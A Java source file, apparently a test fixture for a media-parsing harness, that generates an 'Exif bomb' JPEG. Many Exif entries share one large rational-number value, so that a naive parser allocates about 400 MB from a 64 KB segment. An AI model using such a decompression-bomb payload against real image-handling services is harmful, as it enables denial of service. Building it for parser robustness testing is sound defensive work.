package slipway.media;

import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import slipway.harness.SampleMedia;

/** A small JPEG whose Exif entries share one long value, of which a reader makes one for each. */
public final class ExifBomb {
  private static final int ENTRIES = 2_700;
  private static final int FRACTIONS = 4_000;
  private static final int RATIONAL = 5;

  private ExifBomb() {}

  /** One of 64 KB for each Exif segment, each of which unpacks to 400 MB. */
  public static byte[] jpeg(int segments) {
    byte[] jpeg = SampleMedia.jpeg(64, 64);
    for (int i = 0; i < segments; i++) {
      jpeg = Samples.withSegment(jpeg, 0xffe1, exif());
    }
    return jpeg;
  }

  private static byte[] exif() {
    int value = 8 + 2 + 12 * ENTRIES + 4;
    ByteBuffer tiff = ByteBuffer.allocate(6 + value + 8 * FRACTIONS);
    tiff.put(new byte[] {'E', 'x', 'i', 'f', 0, 0}).order(ByteOrder.LITTLE_ENDIAN);
    tiff.put(new byte[] {'I', 'I', '*', 0}).putInt(8).putShort((short) ENTRIES);
    for (int i = 0; i < ENTRIES; i++) {
      tiff.putShort((short) (1_000 + i)).putShort((short) RATIONAL).putInt(FRACTIONS).putInt(value);
    }
    tiff.putInt(0);
    for (int i = 0; i < FRACTIONS; i++) {
      tiff.putInt(1).putInt(3);
    }
    return tiff.array();
  }
}
